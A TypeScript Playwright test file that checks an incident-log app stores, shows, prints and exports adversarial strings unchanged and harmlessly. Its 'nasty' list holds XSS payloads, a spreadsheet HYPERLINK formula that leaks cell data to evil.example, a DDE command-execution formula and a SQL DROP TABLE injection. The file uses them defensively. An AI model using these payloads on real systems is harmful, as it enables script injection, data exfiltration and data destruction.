import { readFileSync } from 'node:fs'
import type { Page } from 'playwright-core'
import { expect, test } from 'vitest'
import { replayWorld } from '../../src/cli/replay-world.ts'
import type { Instant } from '../../src/domain/ids.ts'
import { decode } from '../../src/domain/log/decode.ts'
import { parseJsonl } from '../../src/export/parse-jsonl.ts'
import { isFormula } from '../../src/export/spreadsheet.ts'
import { createSession } from '../../src/session/session.ts'
import { captureText } from '../../src/ui/text/capture.ts'
import { exportText } from '../../src/ui/text/export.ts'
import { corpus } from '../support/corpora.ts'
import { shippedLibrary } from '../support/world.ts'
import { withApp } from './harness.ts'
import { open } from './screens.ts'
import { type SeededLog, seed } from './seed.ts'

/** minimaxir/big-list-of-naughty-strings: what has broken programs that take text from people. */
const list = corpus('minimaxir__big-list-of-naughty-strings')
const naughty: readonly string[] = list.present ? JSON.parse(list.text('blns.json')) : []

/** Every string as an entry, recorded as the app records it, and its words by the entry's id. */
async function recorded(): Promise<{
  readonly log: SeededLog
  readonly words: ReadonlyMap<string, string>
  readonly refused: readonly string[]
}> {
  const start = '2021-10-31T00:31:00.000+09:00' as Instant
  const world = replayWorld(99, start, shippedLibrary())
  const session = createSession(world)
  await session.boot()
  const { log } = await session.startIncident({ runbookId: 'hospital' })
  const words = new Map<string, string>()
  const refused: string[] = []
  for (const body of naughty) {
    const result = await session.record({ do: 'note', body, from: body.slice(0, 400) })
    const id = result.ok ? result.ids.at(-1) : undefined
    if (id) words.set(id, body)
    else refused.push(body)
  }
  const { events, runbook } = await session.storedLog()
  const row = (await world.store.logs()).find((known) => known.log === log)
  if (!row) throw new Error('the log has no row')
  return { log: { events, row, runbook }, words, refused }
}

/** Asserts afterwards that nothing in the strings was ever run. */
async function unharmed(page: Page, work: () => Promise<void>): Promise<void> {
  const harm: string[] = []
  page.on('dialog', (dialog) => {
    harm.push(`dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('console', (message) => {
    if (message.type() === 'error') harm.push(`console: ${message.text()}`)
  })
  page.on('pageerror', (error) => harm.push(`error: ${error}`))
  page.on('popup', (popup) => harm.push(`popup: ${popup.url()}`))
  await page.addInitScript(() => {
    const harmed: string[] = []
    Object.assign(window, { harmed })
    for (const name of ['alert', 'confirm', 'prompt'] as const)
      Object.assign(window, { [name]: () => harmed.push(name) })
    document.addEventListener('securitypolicyviolation', (event) =>
      harmed.push(`${event.violatedDirective} ${event.blockedURI}`),
    )
  })
  await page.reload()
  await work()
  const inside = await page.evaluate(() => (window as unknown as { harmed: string[] }).harmed)
  expect([...harm, ...inside]).toEqual([])
  // Markup in a string would have made elements of these kinds.
  expect(
    await page.locator('#app :is(script, img, iframe, object, embed, video, style)').count(),
  ).toBe(0)
}

/** The words of every line of the chronology, read while the list is scrolled from end to end. */
function shownLines(page: Page): Promise<Record<string, string>> {
  return page.evaluate(async () => {
    const list = document.querySelector('.log-scroll')!
    const found: Record<string, string> = {}
    const pause = (): Promise<unknown> =>
      new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))
    // It opens at its end, as soon as it knows its own height.
    await new Promise((done) => setTimeout(done, 250))
    for (let tries = 0; tries < 50 && list.scrollTop > 0; tries++) {
      list.scrollTop = 0
      await pause()
    }
    for (let steps = 0; steps < 5000; steps++) {
      for (const line of document.querySelectorAll('a.log-line'))
        found[line.getAttribute('href')!.split('/').at(-1)!] =
          line.querySelector('.log-body')?.textContent ?? ''
      if (list.scrollTop + list.clientHeight >= list.scrollHeight - 2) break
      list.scrollTop += list.clientHeight * 0.6
      await pause()
    }
    return found
  })
}

async function downloaded(page: Page, title: string): Promise<Buffer> {
  const button = page.getByRole('button', { name: exportText.ja.handOf(title) })
  await expect
    .poll(() => button.getAttribute('aria-disabled'), { timeout: 30_000 })
    .not.toBe('true')
  const waiting = page.waitForEvent('download')
  await button.click()
  return readFileSync(await (await waiting).path())
}

/** The cells of an RFC 4180 file. */
function cellsOf(text: string): readonly (readonly string[])[] {
  const rows: string[][] = []
  let row: string[] = []
  const cell = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n|$)/gy
  while (cell.lastIndex < text.length) {
    const [, raw = '', end] = cell.exec(text) ?? []
    if (end === undefined) throw new Error(`not CSV at ${cell.lastIndex}`)
    row.push(raw.startsWith('"') ? raw.slice(1, -1).replaceAll('""', '"') : raw)
    if (end === ',') continue
    rows.push(row)
    row = []
  }
  return rows
}

const goTo = async (page: Page, log: string, rest: string, shows: string): Promise<void> => {
  await page.evaluate((hash) => window.location.replace(hash), `#/i/${log}/${rest}`)
  await page.locator(shows).first().waitFor()
}

test.runIf(list.present)(
  `naughty strings come back exactly, on screen, on paper and in files${list.note}`,
  async () => {
    const { log, words, refused } = await recorded()
    expect(refused.every((body) => body.trim() === '')).toBe(true)
    expect(words.size + refused.length).toBe(naughty.length)
    expect(words.size).toBeGreaterThan(500)
    await withApp(
      async ({ page, server }) => {
        await open(page, server.url)
        await seed(page, log)
        await unharmed(page, async () => {
          await goTo(page, log.row.log, 'log', '.log-line')
          const shown = await shownLines(page)
          const wrong = [...words].filter(([id, body]) => shown[id] !== body)
          expect(wrong.map(([id, body]) => ({ body, shown: shown[id] }))).toEqual([])

          for (const [id] of [...words].slice(-3)) {
            await goTo(page, log.row.log, `log/${id}`, 'dialog[open] .log-entry-body')
            expect(await page.locator('.log-entry-body').textContent()).toBe(words.get(id))
          }

          await goTo(page, log.row.log, 'print', '.print-log tbody tr')
          const printed = await page
            .locator('.print-what .print-body:first-of-type')
            .evaluateAll((bodies) => bodies.map((body) => body.textContent))
          const paper = new Set(printed)
          expect([...words.values()].filter((body) => !paper.has(body))).toEqual([])

          await goTo(page, log.row.log, 'export', '.export-row')
          const file = parseJsonl(new Uint8Array(await downloaded(page, exportText.ja.jsonl)))
          expect(file.problems).toEqual([])
          const kept = new Map(
            file.events.map((event) => {
              const read = decode(event)
              return [
                event.id as string,
                read.kind === 'known' && read.type === 'note.recorded' ? read.text?.body : null,
              ]
            }),
          )
          expect([...words].filter(([id, body]) => kept.get(id) !== body)).toEqual([])

          const csv = (await downloaded(page, exportText.ja.csv)).toString('utf8')
          const rows = cellsOf(csv.slice(1))
          expect(csv.startsWith('\uFEFF')).toBe(true)
          expect(new Set(rows.map((row) => row.length)).size).toBe(1)
          expect(rows.flat().filter(isFormula)).toEqual([])
          const cells = new Set(rows.flat())
          const lost = [...words.values()].filter(
            (body) => !cells.has(body) && !cells.has(`'${body}`),
          )
          expect(lost).toEqual([])
        })
      },
      { open: false, viewport: { width: 1280, height: 800 } },
    )
  },
)

const nasty = [
  `<script>alert('pwned')</script>`,
  `"><img src=x onerror="alert(1)">`,
  'javascript:alert(1)//',
  '=HYPERLINK("http://evil.example/?"&A1,"開く")',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: other programs would fill it in
  '${7*7} {{7*7}} <%= 7*7 %> %s%n%x',
  'نص من اليمين ‮ آخر ‭ إلى اليسار',
  'T̷̪h̡͇̟e̳͟ ͎̩m̨o̶n͉i̢t̤o͏r̝',
  '👩‍⚕️👨‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇯🇵 ｶﾞﾊﾟ ㍿ 髙﨑 𠮷野家',
  '​‌‍⁠﻿ゼロ幅だけに見える',
  '  前後に空白  \tとタブ\t',
  '一行目\n\n三行目\n',
  `'; DROP TABLE logs; --`,
  '__proto__ constructor hasOwnProperty',
  'あ'.repeat(5000),
  '\u0007ベルと\u0000ヌル',
]

test('nasty strings typed by hand are recorded as they were typed', async () => {
  await withApp(async ({ page, server }) => {
    await open(page, server.url)
    await unharmed(page, async () => {
      await page.evaluate(() => window.location.replace('#/start'))
      await page.locator('.start-foot .primary').click()
      await page.locator('.step-row').first().waitFor()
      const log = /#\/i\/([^/]+)/.exec(page.url())![1]!
      await goTo(page, log, 'log', '.log-line')
      const field = page.getByRole('textbox', { name: captureText.ja.field })
      for (const text of nasty) {
        const before = Object.keys(await shownLines(page)).length
        await field.fill(text)
        expect(await field.inputValue()).toBe(text)
        await page.getByRole('button', { name: captureText.ja.record, exact: true }).click()
        await expect
          .poll(async () => Object.keys(await shownLines(page)).length, { timeout: 10_000 })
          .toBe(before + 1)
        expect(Object.values(await shownLines(page))).toContain(text)
      }
      await page.reload()
      await page.locator('.log-line').first().waitFor()
      const kept = Object.values(await shownLines(page))
      expect(nasty.filter((text) => !kept.includes(text))).toEqual([])
    })
  })
})
